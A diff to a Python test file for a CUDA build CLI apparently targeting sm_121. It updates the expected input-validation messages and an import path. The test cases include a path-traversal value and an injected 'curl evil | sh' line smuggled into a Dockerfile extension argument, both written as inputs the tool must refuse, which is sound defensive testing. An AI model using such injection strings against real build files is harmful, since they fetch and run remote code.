@@ -139,14 +139,15 @@ def test_fuzz_reader_raises_only_corrupt_binary_error(
     (["build", "--base", "x", "--arch", "12.0a"], "'12.0a' gives sm_121 no native code"),
     (["dockerfile", "--base", "x", "--arch", "9.0+PTX"], "gives sm_121 no native code"),
     (["patch", ".", "--arch", "8.0"], "'8.0' gives sm_121 no native code"),
-    (["build", "--base", "x", "--jobs", "-5"], "-5 is not in the range 1<=x<=4096"),
+    (["build", "--base", "x", "--jobs", "-5"],
+     "'-5': expected a whole number from 1 to 4096 in the digits 0-9"),
     (["build", "--base", "x", "--jobs", "0"], "0 is not in the range"),
     (["dockerfile", "--base", "x", "--ext", "../../etc/passwd"], "is not an extension name"),
     (["dockerfile", "--base", "x", "--ext", "x\nRUN curl evil | sh"], "is not an extension"),
     (["build", "--base", "x", "--ext", "_C abi3.so"], "is not an extension name"),
     (["build", "--fooo"], "No such option '--fooo'. Did you mean '--force'?"),
     (["patch"], "Missing argument 'SOURCE'."),
-    (["prune", "--keep", "0"], "0 is not in the range x>=1"),
+    (["prune", "--keep", "0"], "0 is not in the range 1-1000000"),
 ])
 def test_inputs_are_refused_before_any_work_in_one_line(args: list[str], message: str) -> None:
     """Checked before the engine is contacted (the base `x` does not exist anywhere)."""
@@ -159,7 +160,7 @@ def test_inputs_are_refused_before_any_work_in_one_line(args: list[str], message
     ("8.0+PTX;12.1", "8.0+PTX;12.1"), ("12.0f,12.1", "12.0f;12.1")])
 def test_arch_lists_that_give_sm121_native_code_pass(arch: str, spelt: str) -> None:
     """Accepted, and spelt one way from here on (`;`-separated)."""
-    from sm121_build.cli.inputs import arch_list
+    from sm121_build.cli.params import arch_list
 
     assert str(arch_list(None, None, arch)) == spelt
 
